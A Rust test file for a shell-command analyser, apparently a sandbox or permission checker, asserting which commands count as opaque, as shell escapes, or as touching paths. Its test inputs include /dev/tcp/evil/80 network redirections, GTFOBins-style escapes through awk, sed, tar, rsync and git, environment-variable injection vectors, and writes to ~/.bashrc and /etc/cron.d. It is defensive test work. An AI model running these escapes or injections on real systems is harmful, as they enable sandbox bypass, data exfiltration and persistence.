//! What programs can be made to run, and what they touch.

use super::*;

#[test]
fn variables_by_which_something_is_loaded_or_run_are_opaque() {
    for name in [
        "MAIL MAILPATH MAILCHECK histchars HISTFILE LOCPATH NLSPATH MALLOC_TRACE BASH_XTRACEFD HOSTALIASES MAGIC",
        "auto_resume TERMINFO TERMINFO_DIRS TERMCAP INPUTRC COLUMNS LINES PS0 PS2 PS3 PS4 PROMPT_COMMAND",
        "PROMPT_DIRTRIM FCEDIT EDITOR VISUAL PAGER MANPAGER SYSTEMD_PAGER LESS LESSOPEN LESSKEY GIT_SSH LD_AUDIT",
        "BASH_FUNC_x GLOBIGNORE SHELLOPTS BASHOPTS CDPATH FPATH ZDOTDIR HOME PATH CC RUSTC_WRAPPER MY_PRELOAD",
    ]
    .iter()
    .flat_map(|names| names.split(' '))
    {
        for text in [
            format!("{name}=x ls"),
            format!("{name}=x"),
            format!("export {name}=x"),
            format!("env {name}=x ls"),
        ] {
            assert!(read(&text).is_opaque(), "{text}");
        }
    }
    for text in [
        "FOO=bar make",
        "x=1; echo $x",
        "LC_ALL=C sort f",
        "TZ=UTC date",
        "DEBIAN_FRONTEND=noninteractive apt-get -y install x",
        "NODE=db1; echo $NODE",
        "DEBUG=1 VERSION=2 ./build",
        "file=x; cat $file",
    ] {
        assert!(!read(text).is_opaque(), "{text}");
    }
}

#[test]
fn a_shell_started_without_text_is_an_escape() {
    for text in [
        "bash",
        "sh",
        "sh -l",
        "bash -i",
        "sudo -i",
        "sudo -s",
        "su -",
        "sudo bash",
        "bash script.sh",
        "exec zsh",
        "env bash",
        "ssh web1",
        "script",
    ] {
        let reading = read(text);
        assert!(
            !reading.escapes.is_empty(),
            "{text}: {}",
            describe(&reading)
        );
    }
}

#[test]
fn programs_that_run_code_are_escapes() {
    for text in [
        "vim x",
        "python3 -c 'x'",
        "python3.11 x",
        "perl -e x",
        "less x",
        "man ls",
        "/usr/bin/vi",
        "vim.basic x",
        "awk 'BEGIN{system(\"id\")}'",
        "awk '{print | \"sh\"}'",
        "awk -f x",
        "sed '1e id'",
        "sed 's/a/b/e'",
        "sed -f x",
        "tar cf x --checkpoint-action=exec=id y",
        "tar -I 'sh -c id' -xf x",
        "tar xf x --to-com=id",
        "git -c core.pager=x log",
        "git rebase -x id",
        "git mine",
        "git commit",
        "docker run x",
        "kubectl exec x",
        "tmux",
        "screen",
        "mysql",
        "psql",
        "gdb x",
        "ftp x",
        "rsync -e 'sh -c id' a b",
        "rsync --server --daemon --config=/tmp/x .",
        "sudo journalctl",
        "sudo systemctl status x",
        "systemctl edit x",
        "node x",
        "ruby x",
        "lua5.4 x",
        "tar cf $(cat x) y",
        "x=--to-command=id; tar xf $x y",
        "make --eval=x",
        "busybox vi",
        "env ed",
        "ip netns exec x y",
    ] {
        let reading = read(text);
        assert!(
            !reading.escapes.is_empty(),
            "{text}: {}",
            describe(&reading)
        );
    }
}

#[test]
fn paths_of_redirections_and_transfers_are_told() {
    assert_eq!(
        read("echo x > /etc/motd 2>> err").paths,
        ["/etc/motd", "err"]
    );
    assert_eq!(read("ls 2>&1 < in").paths, [] as [&str; 0]);
    assert_eq!(read("echo x >| 'a b'").paths, ["a b"]);
    for text in [
        "ls 2>/dev/null",
        "ls >/dev/stderr",
        "ls &> /dev/null",
        "ls 2>> /dev/stdout",
    ] {
        assert_eq!(read(text).paths, [] as [&str; 0], "{text}");
    }
    for text in [
        "cat < /dev/tcp/evil/80",
        "cat <'/dev/udp/evil/53'",
        "ls > /dev/tcp/evil/80",
        "cat < /dev/$x/evil/80",
        "exec 3<>/dev/tcp/evil/80",
        "while cat; do ls; done < /dev/tcp/evil/80",
    ] {
        assert_eq!(read(text).paths.len(), 1, "{text}");
    }
    assert!(
        read("sudo journalctl 2>/dev/null")
            .escapes
            .contains("journalctl")
    );
    assert_eq!(read("ls &> all").paths, ["all"]);
    assert_eq!(read("scp -t /srv/app").paths, ["/srv/app"]);
    assert_eq!(read("scp -r -p -f '/etc/a b'").paths, ["/etc/a b"]);
    assert_eq!(
        read("rsync --server -vlogDtpre.iLsfxC . /srv/").paths,
        ["/srv/"]
    );
    let reading = read("rsync --server --sender -vlogDtpre.iLsfxC . /srv/");
    assert!(
        !reading.is_opaque() && reading.escapes.is_empty(),
        "{}",
        describe(&reading)
    );
    assert_eq!(
        read("/usr/lib/openssh/sftp-server -d /data").paths,
        ["/data"]
    );
}

#[test]
fn a_program_outside_the_system_folders_keeps_its_path() {
    assert_eq!(read("/usr/bin/ls").commands[0].program, "ls");
    assert_eq!(read("/tmp/ls").commands[0].program, "/tmp/ls");
    assert_eq!(read("./ls").commands[0].program, "./ls");
}

#[test]
fn what_a_wrapper_writes_by_itself_is_told() {
    for (text, file) in [
        ("/usr/bin/time -a -o ~/times -f 'touch p' ls", "~/times"),
        ("/usr/bin/time --output=/srv/x ls", "/srv/x"),
        ("strace -f -o /tmp/out ls", "/tmp/out"),
        ("ltrace -o/tmp/out ls", "/tmp/out"),
        ("flock /var/lock/x ls", "/var/lock/x"),
        ("script -qc ls /tmp/typescript", "/tmp/typescript"),
    ] {
        let reading = exec(text.as_bytes());
        assert!(!reading.is_opaque(), "{text}: {reading:?}");
        assert_eq!(reading.paths, [file], "{text}");
    }
    for text in [
        "/usr/bin/time -a -o ~/.bashrc -f 'touch p' ls",
        "/usr/bin/time --output=/etc/cron.d/x ls",
        "strace -o '|sudo id >f' pwd",
        "strace -o '!touch f' pwd",
        "strace -e inject=all:retval=1 pwd",
    ] {
        assert!(exec(text.as_bytes()).is_opaque(), "{text}");
    }
}

#[test]
fn a_variable_whose_value_the_shell_evaluates_takes_numbers_alone() {
    for name in ["RANDOM", "SECONDS", "OPTIND"] {
        assert!(!exec(format!("{name}=1").as_bytes()).is_opaque(), "{name}");
        for text in [
            format!("for {name} in 'a[$(touch f)]'; do pwd; done"),
            format!("{name}='a[$(touch f)]'"),
            format!("{name}=$x"),
        ] {
            assert!(exec(text.as_bytes()).is_opaque(), "{text}");
        }
    }
}
